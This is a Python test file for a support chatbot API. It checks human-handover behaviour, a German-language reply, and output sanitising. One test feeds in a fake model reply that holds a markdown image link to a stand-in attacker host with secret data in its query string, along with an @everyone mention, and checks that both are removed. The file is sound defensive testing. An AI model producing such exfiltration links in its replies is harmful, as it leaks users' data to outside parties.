"""The turn understands the message before answering: a request for a person opens the human
queue instead of an answer, and a reply that breaks output rules is cleaned before anyone sees it."""

from __future__ import annotations

from tests.conftest import Tenant, new_conversation


async def test_asking_for_a_human_hands_over_and_the_bot_then_stays_silent(tenant: Tenant, fake_primary) -> None:
    conversation = await new_conversation(tenant)
    url = f"/v1/conversations/{conversation}/messages"
    handover = (await tenant.client.post(url, json={"content": "I want to talk to a human, please"})).json()
    assert handover["message"]["metadata"]["handoff"] is True
    assert handover["message"]["metadata"]["escalation_reason"] == "customer_request"
    assert "team" in handover["message"]["content"]
    assert fake_primary.calls == 0  # no model was asked to answer
    status = (await tenant.client.get(f"/v1/conversations/{conversation}")).json()["status"]
    assert status == "escalated"

    later = (await tenant.client.post(url, json={"content": "hello? anyone?"})).json()
    assert later["message"] is None
    roles = [m["role"] for m in (await tenant.client.get(url)).json()["items"]]
    assert roles == ["user", "assistant", "user"]


async def test_german_request_for_a_person_is_answered_in_german(tenant: Tenant) -> None:
    conversation = await new_conversation(tenant)
    reply = await tenant.client.post(
        f"/v1/conversations/{conversation}/messages", json={"content": "Ich möchte bitte mit einem Menschen sprechen"}
    )
    message = reply.json()["message"]
    assert message["metadata"].get("handoff") is True
    assert "Team" in message["content"]


async def test_exfiltration_links_and_mass_mentions_never_leave_the_platform(tenant: Tenant, fake_primary) -> None:
    fake_primary.reply_text = "Sure! ![status](https://evil.example/x?d=secret) and ping @everyone about it."
    conversation = await new_conversation(tenant)
    reply = await tenant.client.post(f"/v1/conversations/{conversation}/messages", json={"content": "What is new?"})
    message = reply.json()["message"]
    assert "evil.example" not in message["content"]
    assert "@everyone" not in message["content"]
    assert message["metadata"]["safety"]
